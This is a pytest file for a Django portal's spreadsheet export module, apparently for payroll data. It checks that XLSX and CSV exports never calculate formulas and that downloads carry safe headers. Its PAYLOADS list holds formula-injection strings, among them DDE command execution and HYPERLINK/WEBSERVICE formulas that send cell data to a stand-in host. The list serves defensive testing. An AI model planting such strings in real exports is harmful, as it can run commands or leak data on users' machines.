"""What we write: nothing calculates when it is opened, and every name comes back as it was."""

import csv
import io
from datetime import UTC, date, datetime
from typing import Any

import openpyxl
import pytest
from django.test import RequestFactory

from cilegon_portal.rules.months import Month
from cilegon_portal.sheets import WEB, writing
from cilegon_portal.sheets.writing import Column, SheetOut, Value

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    '=WEBSERVICE("http://evil.example")',
    "=IMPORTXML(A1)",
    "=@SUM(A1)",
    "=",
    "==",
    '="0123"',
    "={1,2}",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "+6281234567890",
    "+",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "-",
    "--",
    "@SUM(1+1)",
    "@",
    "@A1",
    "\t=1+1",
    "\tSiti",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\0=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM",
    "{=1+1}",
    "http://evil.example",
    "mailto:siti@evil.example",
    "internal:Sheet2!A1",
    "external:c:\\evil.xlsx",
    "DDE(1)",
    '"=1+1"',
    "';=1+1",
    "Siti;=1+1",
    "Siti,=1+1\n=2",
    "%0A=1+1",
]
NAMES = [
    "Siti",
    "Nur\u2019aini",
    "D'Cruz",
    "Zoë",
    "Ali, S.E.",
    'Budi "Bud"',
    "王",
    "O;K",
    "_x0041_",
    " A",
]
COLUMNS = [
    Column("NIK", "id"),
    Column("Nama", width=30),
    Column("Upah", "money"),
    Column("Lahir", "date"),
    Column("Bulan", "month"),
    Column("Hari", "number"),
]
ROW: list[Value] = ["3672991234567890", "Siti", 5_000_000, date(1985, 3, 27), Month(2026, 11), 1.5]


def reopened(content: bytes) -> Any:
    return openpyxl.load_workbook(io.BytesIO(content))


def joined(titles: Any, rows: Any, **how: Any) -> str:
    return b"".join(writing.csv(titles, rows, **how)).decode()


def test_enough_payloads_are_tried():
    assert len(PAYLOADS) >= 40


def test_no_cell_of_a_workbook_calculates():
    columns = [Column("=1+1"), Column("NIK", "id"), Column("Upah", "money")]
    rows = [[payload, payload, payload] for payload in PAYLOADS]

    book = reopened(writing.xlsx([SheetOut("=1+1", columns, rows)]))

    cells = [cell for row in book.active for cell in row]
    assert len(cells) == 3 * (len(PAYLOADS) + 1)
    assert {cell.data_type for cell in cells} == {"s"}
    assert not [cell for cell in cells if cell.hyperlink]
    plain = [cell.value for row in book.active.iter_rows(min_row=2) for cell in row[:1]]
    same = [payload for payload in PAYLOADS if "\r" not in payload and "\0" not in payload]
    assert set(same) <= set(plain)


def test_no_cell_of_a_csv_begins_like_a_formula():
    text = joined(["=1+1", "Upah"], [[payload, -5] for payload in PAYLOADS])

    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=";"))

    assert len(rows) == len(PAYLOADS) + 1
    assert not [row for row in rows if row[0].startswith(writing.TRIGGERS)]
    assert [row[0].removeprefix("'") for row in rows[1:] if row[0][0] == "'"]
    assert {row[1] for row in rows[1:]} == {"-5"}
    unguarded = [row[0][1:] if row[0][1:] in PAYLOADS else row[0] for row in rows[1:]]
    assert unguarded == PAYLOADS


@pytest.mark.parametrize("separator", [";", ","])
def test_names_come_back_from_a_csv(separator: str, read_bytes: Any) -> None:
    text = joined(["NIK", "Nama"], [["1", name] for name in NAMES], delimiter=separator)

    sheet = read_bytes(text.encode())

    assert text.startswith("\ufeff")
    assert text.count("\r\n") == len(NAMES) + 1
    assert [cells[1] for _, cells in sheet.rows] == NAMES


def test_names_come_back_from_a_workbook(read_bytes):
    rows = [["3672991234567890", name, 1, None, None, None] for name in [*NAMES, "=1+1", "-"]]

    sheet = read_bytes(writing.xlsx([SheetOut("Upah", COLUMNS, rows)]))

    assert [cells[1] for _, cells in sheet.rows] == [*NAMES, "=1+1", "-"]


def test_every_kind_of_value_keeps_its_type_and_its_look():
    page = reopened(writing.xlsx([SheetOut("Upah", COLUMNS, [ROW])])).active

    assert [cell.value for cell in page[2]] == [
        "3672991234567890",
        "Siti",
        5_000_000,
        datetime.fromisoformat("1985-03-27"),
        datetime.fromisoformat("2026-11-01"),
        1.5,
    ]
    assert [cell.number_format for cell in page[2]] == [
        "@",
        "General",
        "#,##0",
        "dd/mm/yyyy",
        "mmmm yyyy",
        "#,##0.##",
    ]
    assert page.freeze_panes == "A2"
    assert page["A1"].font.bold
    assert page.column_dimensions["B"].width == pytest.approx(30, abs=1)


def test_a_number_that_a_spreadsheet_would_round_is_written_as_text():
    rows: list[list[Value]] = [[3672991234567890, None], ["", 2**60], [None, float("inf")]]

    page = reopened(
        writing.xlsx([SheetOut("x", [Column("NIK", "id"), Column("n", "number")], rows)])
    ).active

    assert page["A2"].value == "3672991234567890"
    assert page["B3"].value == str(2**60)
    assert page["B4"].value == "inf"


def test_the_cells_below_an_id_are_text_before_they_are_filled():
    page = reopened(writing.xlsx([SheetOut("Contoh", COLUMNS, [])])).active

    assert page.column_dimensions["A"].number_format == "@"


def test_a_faulty_cell_is_red_and_says_why():
    rows = [ROW, ROW]

    page = reopened(
        writing.xlsx([SheetOut("Upah", COLUMNS, rows, red={(1, 0)}, notes={(1, 0): "Isi NIK"})])
    ).active

    assert page["A3"].fill.fgColor.rgb.endswith(writing.RED[1:].upper())
    assert page["A3"].number_format == "@"
    assert page["A2"].fill.fill_type is None
    assert page["A3"].comment.text == "Isi NIK"
    assert page["A2"].comment is None


def test_a_workbook_may_have_an_example_and_odd_names():
    sheets = [SheetOut("Upah 11/2026", COLUMNS, []), SheetOut("Contoh " * 9, COLUMNS, [ROW])]

    book = reopened(writing.xlsx(sheets))

    assert book.sheetnames == ["Upah 11 2026", ("Contoh " * 9)[:31]]


def test_moments_are_written_on_our_clocks():
    moment = datetime(2026, 11, 23, 3, 5, tzinfo=UTC)

    page = reopened(writing.xlsx([SheetOut("x", [Column("Waktu", "date")], [[moment]])])).active
    text = joined(["Waktu", "Ya"], [[moment, True], [None, False]])

    assert page["A2"].value == datetime.fromisoformat("2026-11-23 10:05")
    assert text.splitlines()[1:] == ["2026-11-23 10:05;ya", ";tidak"]


def test_a_csv_comes_in_pieces():
    pieces = list(writing.csv(["NIK"], ([str(number)] for number in range(1_200))))

    assert len(pieces) == 3
    assert b"".join(pieces).count(b"\r\n") == 1_201


def test_writing_leaves_no_file_behind(uploads_folder):
    writing.xlsx([SheetOut("Upah", COLUMNS, [ROW] * 2_000)])

    assert list(uploads_folder.iterdir()) == []


def test_a_row_of_another_length_is_a_fault_of_ours():
    with pytest.raises(ValueError, match="zip"):
        writing.xlsx([SheetOut("Upah", COLUMNS, [ROW[:3]])])


@pytest.mark.parametrize(
    ("name", "kind"),
    [
        ("upah-2026-11.xlsx", "application/vnd.openxmlformats"),
        ("upah.csv", "text/csv; charset=utf-8"),
        ("tagihan.pdf", "application/pdf"),
    ],
)
def test_a_download_is_saved_and_runs_nothing(name: str, kind: str) -> None:
    for content in (b"x", iter([b"x"])):
        answer = writing.download(name, content)

        assert answer["Content-Type"].startswith(kind)
        assert answer["Content-Disposition"] == f'attachment; filename="{name}"'
        assert answer["X-Content-Type-Options"] == "nosniff"
        assert "no-store" in answer["Cache-Control"]


def test_a_download_has_a_policy_of_its_own():
    from csp.middleware import CSPMiddleware

    def view(_request: object) -> Any:
        return writing.download('"; x\r\n.csv', b"x")

    answer = CSPMiddleware(view)(RequestFactory().get("/"))

    policy = answer["Content-Security-Policy"].split("; ")
    assert sorted(policy) == ["default-src 'none'", "frame-ancestors 'none'", "sandbox"]
    assert answer["Content-Disposition"] == 'attachment; filename="---x--.csv"'


def test_what_we_write_is_read_by_the_same_rules(read_bytes):
    content = writing.xlsx([SheetOut("Upah", COLUMNS, [ROW] * 3)])

    sheet = read_bytes(content, WEB)

    assert sheet.header == [column.title for column in COLUMNS]
    assert sheet.rows[0] == (2, [*ROW[:4], date(2026, 11, 1), 1.5])
